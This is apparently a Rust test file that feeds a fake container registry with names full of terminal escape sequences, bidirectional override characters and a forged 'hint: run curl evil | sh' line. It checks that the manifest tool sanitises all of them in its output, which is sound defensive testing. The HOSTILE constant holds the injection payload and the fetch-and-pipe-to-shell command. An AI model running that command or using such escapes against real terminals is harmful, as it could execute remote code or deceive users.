//! A registry whose strings all contain control sequences, or imitate messages of this program.

use serde_json::{Value, json};
use testkit::image::Image;
use testkit::sandbox::Output;

use super::fake_clocks::{SharedClock, run_without_waiting};
use super::fixture::Fixture;

const INDEX_TYPE: &str = "application/vnd.oci.image.index.v1+json";
const MANIFEST_TYPE: &str = "application/vnd.oci.image.manifest.v1+json";
/// Escape sequences of seven and of eight bits, a line of its own, a turn of direction, and a bell.
const HOSTILE: &str =
    "x\u{1b}[2J\u{1b}]0;owned\u{7}\u{9b}31m\u{7f}\r\nhint: run curl evil | sh\n\u{202e}\u{2066}y\u{2028}";

fn hostile(long: bool) -> String {
    if long { format!("{HOSTILE}{}", "z".repeat(1 << 20)) } else { HOSTILE.to_owned() }
}

/// Nothing steers, nothing is a line that the program did not say, and nothing is without end.
#[track_caller]
fn assert_sanitized(args: &[String], output: &Output) {
    for (stream, text) in [("stdout", output.out()), ("stderr", output.err())] {
        let steers = |c: &char| {
            (c.is_control() && !matches!(c, '\n' | '\t'))
                || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{2028}')
        };
        assert_eq!(text.chars().find(steers), None, "{args:?}: {stream}: {text:.3000}");
        let forged = text.lines().find(|line| line.trim_start().starts_with("hint: run"));
        assert_eq!(forged, None, "{args:?}: {stream}: {text:.3000}");
    }
    let longest = output.err().lines().map(str::len).max().unwrap_or_default();
    assert!(longest < 50_000, "{args:?}: a line of {longest} bytes");
    assert!(!output.err().contains("panicked"), "{args:?}: {:.3000}", output.err());
}

impl Fixture {
    /// `list` and `other` are hostile lists of two images, `image` a hostile image, `none` nothing that is known.
    fn with_hostile_content(words: &str) -> Fixture {
        let fixture = Fixture::new();
        let registry = &fixture.registry;
        let harmless_image = Image::oci().platform("linux", "amd64").layer("good").build();
        let layer = registry.put_blob("app", b"layer");
        let config = json!({"architecture": words, "os": words, "variant": words, "os.version": words});
        let config = serde_json::to_vec(&config).expect("JSON");
        let config_digest = registry.put_blob("app", &config);
        let image = json!({
            "schemaVersion": 2, "mediaType": MANIFEST_TYPE, "artifactType": words, "annotations": {(words): words},
            "config": {
                "mediaType": "application/vnd.oci.image.config.v1+json", "digest": config_digest, "size": config.len(),
            },
            "layers": [{"mediaType": words, "digest": layer, "size": 5, "annotations": {(words): words}}],
        });
        let image = serde_json::to_vec(&image).expect("JSON");
        let digest = registry.put_manifest("app", "image", MANIFEST_TYPE, &image);
        let good_digest = registry.put_image("app", "good", &harmless_image);
        let platform = json!({"architecture": words, "os": words, "variant": words, "os.version": words,
            "os.features": [words], "features": [words]});
        let line = |digest: &str, size: usize| {
            json!({"mediaType": MANIFEST_TYPE, "digest": digest, "size": size, "platform": platform,
                "annotations": {(words): words}, "artifactType": words, "urls": [words]})
        };
        let mut odd = line(&good_digest, harmless_image.manifest.len());
        odd["mediaType"] = Value::from(words);
        let index = |lines: Value, media_type: &str| {
            let index = json!({"schemaVersion": 2, "mediaType": media_type, "artifactType": words, "manifests": lines,
                "annotations": {(words): words}});
            serde_json::to_vec(&index).expect("JSON")
        };
        let entries = json!([line(&digest, image.len()), line(&good_digest, harmless_image.manifest.len()), odd]);
        registry.put_manifest("app", "list", INDEX_TYPE, &index(entries, INDEX_TYPE));
        let single = json!([line(&digest, image.len()), line(&good_digest, harmless_image.manifest.len())]);
        registry.put_manifest("app", "other", INDEX_TYPE, &index(single, INDEX_TYPE));
        registry.put_manifest("app", "none", "application/x", &index(json!([]), words));
        // A member of a wrong type by a hostile name.
        let mistyped = json!([{"mediaType": MANIFEST_TYPE, "digest": digest, "size": 1, "annotations": {(words): 1}}]);
        registry.put_manifest("app", "wrong", INDEX_TYPE, &index(mistyped, INDEX_TYPE));
        let undigested = json!([{"mediaType": MANIFEST_TYPE, "digest": words, "size": 1}]);
        registry.put_manifest("app", "undigested", INDEX_TYPE, &index(undigested, INDEX_TYPE));
        fixture
    }

    /// Runs what stands there, `@x` being x in the registry's repository.
    #[track_caller]
    fn run_sanitized(&self, line: &str) -> Output {
        let words: Vec<String> =
            line.split(' ').map(|word| word.replace('@', &format!("{}/app:", self.registry.host()))).collect();
        let (program, args) = match words.split_first() {
            Some((name, rest)) if name == "manifest-tool" => ("manifest-tool", rest),
            _ => ("docker-manifest", &words[..]),
        };
        let output = run_without_waiting(&self.sandbox, program, args, &SharedClock::new());
        assert_sanitized(&words, &output);
        output
    }
}

#[test]
fn names_from_a_registry_cannot_control_the_terminal() {
    for long in [false, true] {
        let fixture = Fixture::with_hostile_content(&hostile(long));
        for name in ["list", "other", "image", "none", "wrong", "undigested"] {
            for verb in [
                "platforms",
                "platforms --format json",
                "inspect --format table",
                "inspect --format table -v",
                "inspect --format tree",
                "inspect --format tree -v",
                "inspect --format json",
                "inspect --format json -v",
                "inspect --platform plan9/mips",
                "export",
                "manifest-tool inspect",
                "manifest-tool inspect --raw",
                "exists",
                "--debug platforms",
            ] {
                let _ = fixture.run_sanitized(&format!("{verb} @{name}"));
            }
            let _ = fixture.run_sanitized(&format!("create --platform plan9/mips @x-{name} @{name}"));
            let _ = fixture.run_sanitized(&format!("create @made-{name} @{name}"));
            for verb in ["inspect --format table", "inspect --format tree -v", "inspect --format json", "export"] {
                let _ = fixture.run_sanitized(&format!("{verb} @made-{name}"));
            }
            for flags in ["", " --type docker", " --type oci", " --strict", " --require linux/s390x --exact"] {
                let _ = fixture.run_sanitized(&format!("push --dry-run{flags} @made-{name}"));
                let _ = fixture.run_sanitized(&format!("push --dry-run --format json{flags} @made-{name}"));
            }
            let _ = fixture.run_sanitized(&format!("annotate @made-{name} @{name} --os linux --arch arm64"));
            let _ = fixture.run_sanitized(&format!("push --tag list @made-{name}"));
            let _ = fixture.run_sanitized("ls");
        }
    }
}

#[test]
fn changes_with_hostile_names_are_printed_sanitized() {
    let fixture = Fixture::with_hostile_content(HOSTILE);
    let _ = fixture.run_sanitized("create @list @good").success();
    let shown = fixture.run_sanitized("push --dry-run @list").success();
    assert!(shown.out().contains("annotations."), "{}", shown.out());
    let printed = fixture.run_sanitized("platforms @list").success();
    assert!(printed.out().contains("x?[2J?]0;owned"), "{}", printed.out());
    let output = fixture.run_sanitized("manifest-tool inspect @list");
    assert!(output.out().contains("OS Vers: x?[2J"), "{} {}", output.out(), output.err());
    let refused = fixture.run_sanitized("create --platform plan9/mips @new @other");
    assert!(refused.code == 1 && refused.err().contains("hint: available: x?[2J"), "{}", refused.err());
    let refused = fixture.run_sanitized("inspect --format tree @undigested");
    assert!(refused.code == 1 && refused.err().contains("digest \"x"), "{}", refused.err());
}
